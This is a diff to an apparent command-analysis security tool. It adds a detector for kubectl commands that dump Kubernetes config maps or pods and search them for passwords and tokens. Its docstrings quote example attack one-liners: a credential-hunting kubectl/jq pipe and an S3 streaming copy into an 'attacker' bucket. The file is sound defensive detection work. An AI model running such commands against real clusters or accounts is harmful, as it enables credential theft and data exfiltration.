@@ -42,7 +42,7 @@ from collections.abc import Callable, Iterable
 
 from ...frozen import Frozen
 from ...lazy_regex import lazy_compile
-from ..findings import finding, piece
+from ..findings import finding, piece, static_args
 from ..interpreters import fed_code, inline_code
 from ..parse import Script
 from ..programs import Invocation, walk
@@ -62,7 +62,7 @@ from ..verdict import (
     UPLOAD,
     Verdict,
 )
-from .credentials import KUBE_SECRETS_PATH
+from .credentials import KUBE_SECRETS_PATH, secret_word
 
 __all__ = ["CloudCall", "judge", "judge_script", "read_call"]
 
@@ -1143,12 +1143,47 @@ def _streams_object(call: CloudCall, direction: str) -> bool:
     return source == "-" and destination.startswith("s3://")
 
 
+_CONFIG_KINDS = lazy_compile(
+    r"^(?:configmaps?|cm|pods?|po|deployments?|deploy|daemonsets?|ds|statefulsets?|sts|replicasets?|rs|"
+    r"jobs?|cronjobs?|cj|all)(?:\.[\w.]+)?$"
+)
+_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "jq", "yq", "gojq", "awk", "gawk", "mawk"})
+
+
+def _configuration_searched(script: Script) -> Invocation | None:
+    """``kubectl get cm -A -o json | jq '... contains("pass") or contains("token")'``: the cluster's
+    configuration (config maps, the pods' environment) dumped and searched for passwords and tokens
+    (red-kube's credential access): what ``kubectl get secrets -o yaml`` is held for, by another kind."""
+    for stages in walk(script):
+        dumped = False
+        for invocation in stages:
+            if invocation.name in ("kubectl", "oc"):
+                call = read_call(invocation)
+                kinds = call.path[1].split(",") if call.path[:1] == ("get",) and len(call.path) > 1 else []
+                dumped = dumped or (
+                    any(_CONFIG_KINDS.match(kind) for kind in kinds)
+                    and re.match(r"(?:json|yaml)", call.value("-o", "--output")) is not None
+                )
+            elif (
+                dumped
+                and invocation.name in _FILTERS
+                and any(secret_word(v) for v in static_args(invocation))
+            ):
+                return invocation
+    return None
+
+
 def judge_script(script: Script, home: str) -> Verdict | None:
     """``aws s3 cp s3://theirs/x - | aws s3 cp --profile attacker - s3://mine/x``: an object streamed
     from a bucket read as one identity into a bucket written as another (the S3 streaming copy):
     data moved between accounts without touching the disk. Asked: moving data between one's own
-    accounts is done this way too."""
+    accounts is done this way too. And the cluster's configuration searched for secrets
+    (:func:`_configuration_searched`)."""
     del home
+    searched = _configuration_searched(script)
+    if searched is not None:
+        why = "searches the cluster's configuration (config maps, pods' environment) for passwords and tokens"
+        return Verdict(CREDENTIALS, piece(searched.text), why)
     for stages in walk(script):
         readers: list[tuple[str, ...]] = []
         for invocation in stages:
